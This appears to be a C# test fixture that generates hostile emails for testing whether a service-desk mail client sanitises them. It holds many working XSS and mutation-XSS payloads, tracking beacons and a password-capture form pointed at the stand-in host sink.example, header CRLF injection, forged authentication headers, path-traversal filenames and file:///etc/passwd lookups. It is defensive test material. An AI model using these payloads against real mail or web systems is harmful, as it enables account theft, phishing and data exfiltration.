using System.Globalization;

namespace Headway.BrowserTests;

/// <summary>A mail of the generator. <paramref name="Case"/>: the attack it tries, as the table of attacks numbers them.</summary>
internal sealed record HostileMail(string Case, string Subject, string Raw);

/// <summary>
/// Mails that try what has worked on service desks: everything in them that runs sets <c>owned</c> or asks the host
/// <c>sink.example</c>. Made from a seed, so that a round can be had again.
/// </summary>
internal static class HostileMails
{
    public const int Seed = 20_260_310;

    private const string Run = "window.top.owned=1;fetch('https://sink.example/ran')";

    private const string Pixel = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";

    /// <summary>Bodies, each the whole of an HTML part.</summary>
    private static readonly (string Case, string Html)[] Bodies =
    [
        ("S01", $"<script>{Run}</script><img src=x onerror=\"{Run}\"><body onload=\"{Run}\"><a href=\"javascript:{Run}\">x</a><details open ontoggle=\"{Run}\">y</details>"),
        ("S01", $"<a href=\"java\tscript:{Run}\">tab</a><a href=\" &#106;avascript:{Run}\">entity</a><a href=\"data:text/html,<script>{Run}</script>\">data</a><a href=\"vbscript:x\">vb</a>"),
        ("S02", $"<svg><style><img src=x onerror=\"{Run}\"></style></svg><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={Run}&gt;\">"),
        ("S02", $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\"><!--!><img src=x onerror=\"{Run}\">--><![CDATA[><img src=x onerror=\"{Run}\">]]><svg></p><style><a id=\"</style><img src=x onerror={Run}>\">"),
        ("S02", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{Run}\"><template><script>{Run}</script></template><xmp><img src=x onerror=\"{Run}\"></xmp>"),
        ("S03", "<style>@import 'https://sink.example/css';*{background:url(https://sink.example/star)}</style><link rel=stylesheet href=https://sink.example/link><div style=\"position:fixed;inset:0;z-index:9999;background:url('https://sink.example/fixed')\">cover</div>"),
        ("S03", "<div id=composer class=\"btn main\" name=ticket style=\"background-image:\\75rl(https://sink.example/esc);width:expression(1);position:absolute;top:-900px;margin-top:-900px\">clobber</div><p style=\"font-family:'x';color:red;behavior:url(#x)\">z</p>"),
        ("S04", "<form action=https://sink.example/take method=post><input name=password autofocus><button formaction=https://sink.example/b>Sign in</button><select><option>1</select><textarea>x</textarea></form>"),
        ("S05", "<iframe src=\"https://good.example@sink.example/\"></iframe><iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe><object data=https://sink.example/o></object><embed src=https://sink.example/e><frameset><frame src=https://sink.example/f></frameset>"),
        ("S06", "<img src=https://sink.example/pixel.gif><img srcset=\"https://sink.example/set 2x\"><picture><source srcset=https://sink.example/pic></picture><video poster=https://sink.example/v src=https://sink.example/v2 autoplay></video><audio src=https://sink.example/a autoplay></audio><table background=https://sink.example/bg><tr><td background=https://sink.example/td>x</table><body background=https://sink.example/body>"),
        ("S06", "<img src=//sink.example/rel><img src=\"http://sink.example/plain\"><img src=\"file:///etc/passwd\"><img src=\"\\\\sink.example\\share\"><input type=image src=https://sink.example/i><base href=https://sink.example/><img src=relative.png><meta http-equiv=refresh content=\"0;url=https://sink.example/\">"),
        ("S07", "<img src=cid:vector><img src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\"><object type=image/svg+xml data=cid:vector></object>"),
        ("S11", "<a href=\"https://good.example\\@sink.example\">a</a><a href=\"https://user:pass@sink.example/\">b</a><a href=\"blob:https://x/y\">c</a><a href=\"file:///etc/passwd\">d</a><a href=\"https://x.example/\" target=_self ping=https://sink.example/ping>e</a>"),
        ("S12", "{{secret}} {{constructor.constructor('owned=1')()}} ${7*7} <%= 7*7 %> #{7*7} {promise} [[settings.mail]]"),
        ("S13", "https://x.example/\"onmouseover=\"owned=1 &lt;img src=x onerror=owned=1&gt; [x](javascript:owned=1) www.sink.example/'><script>owned=1</script>"),
        ("S14", "<img src=\"file:///etc/hostname\"><iframe src=\"file:///etc/passwd\"></iframe><link rel=attachment href=\"file:///etc/passwd\">"),
        ("S15", "<img src=cid:part-of-another-ticket alt=another><img src=\"cid:demo-1@client.example\">"),
    ];

    /// <summary>Header lines that programs somewhere obey; here they are a stranger's words.</summary>
    private static readonly (string Case, string Headers)[] Controls =
    [
        ("S10", "Subject: S10 <script>window.top.owned=1</script><img src=x onerror=owned=1> \"'`{{7*7}}\nFrom: \"<img src=https://sink.example/name onerror=owned=1>\" <name@hostile.example>"),
        ("S22", "Subject: S22 forged results\nFrom: Sam Field <sam@demo.example>\nAuthentication-Results: sink.example; dmarc=pass header.from=demo.example\nARC-Authentication-Results: i=1; mx.demo.example; dmarc=pass header.from=demo.example"),
        ("S23", "Subject: S23 =?utf-8?q?one=0D=0ABcc:_victim@sink.example?=\nFrom: =?utf-8?q?Eve=0D=0ABcc:_victim@sink.example?= <eve@hostile.example>\nReply-To: \"a\\r\\nRCPT TO:<victim@sink.example>\"@hostile.example"),
        ("S25", "Subject: S25 obey\nFrom: <obey@hostile.example>\nX-Headway-Ticket: 1\nX-Headway-Status: CLOSED\nX-Headway-Loop: 000000000000000000000000\nX-Zammad-Ticket-State: closed\nX-RT-Interface: API\nX-Priority: 1\nX-Original-To: ada@demo.example\nX-Forwarded-For: 127.0.0.1"),
        ("S32", "Subject: S32 blind\nFrom: <blind@hostile.example>\nBcc: secret@demo.example\nX-Odoo-Bcc: secret@demo.example"),
    ];

    public static IReadOnlyList<HostileMail> All()
    {
        var random = new Random(Seed);
        var mails = new List<HostileMail>();
        foreach (var (at, (number, html)) in Bodies.Index())
        {
            var subject = string.Create(CultureInfo.InvariantCulture, $"{number} body {at}");
            mails.Add(new HostileMail(number, subject, Whole($"Subject: {subject}\nFrom: Eve <eve{at}@hostile.example>", Dressed(html, random), at)));
        }

        foreach (var (at, (number, headers)) in Controls.Index())
        {
            mails.Add(new HostileMail(number, headers.Split('\n')[0]["Subject: ".Length..], Whole(headers, "<p>See the header.</p>", 100 + at)));
        }

        return mails;
    }

    // The same attack in other clothes each seed: case, white space, depth.
    private static string Dressed(string html, Random random)
    {
        var depth = random.Next(0, 80);
        var open = string.Concat(Enumerable.Repeat("<div>", depth));
        var swapped = string.Concat(html.Select(sign => char.IsAsciiLetter(sign) && random.Next(12) == 0 && !html.Contains("sink.example", StringComparison.Ordinal) ? char.ToUpperInvariant(sign) : sign));
        return $"{open}{(random.Next(2) == 0 ? swapped : html)}{string.Concat(Enumerable.Repeat("</div>", depth))}";
    }

    private static string Whole(string head, string html, int number) => string.Create(
        CultureInfo.InvariantCulture,
        $"""
        {head}
        To: it@demo.example
        Message-ID: <hostile-{number}@hostile.example>
        Date: Tue, 10 Mar 2026 09:00:00 +0000
        MIME-Version: 1.0
        Content-Type: multipart/related; boundary=outer

        --outer
        Content-Type: text/html; charset=utf-8

        <html><body>{html}<p>The end of {number}.</p><img src="cid:dot" alt="dot"></body></html>
        --outer
        Content-Type: image/svg+xml; name="../../../etc/evil<script>.svg"
        Content-ID: <vector>
        Content-Disposition: inline; filename="..\..\evil\u202Egnp.svg"

        <svg xmlns="http://www.w3.org/2000/svg" onload="{Run}"><script>{Run}</script><image href="https://sink.example/svg"/></svg>
        --outer
        Content-Type: image/gif
        Content-ID: <dot>
        Content-Transfer-Encoding: base64

        {Pixel}
        --outer
        Content-Type: image/png; name=page.png
        Content-Disposition: attachment; filename=page.png

        <html><script>{Run}</script></html>
        --outer--

        """).ReplaceLineEndings("\r\n");
}
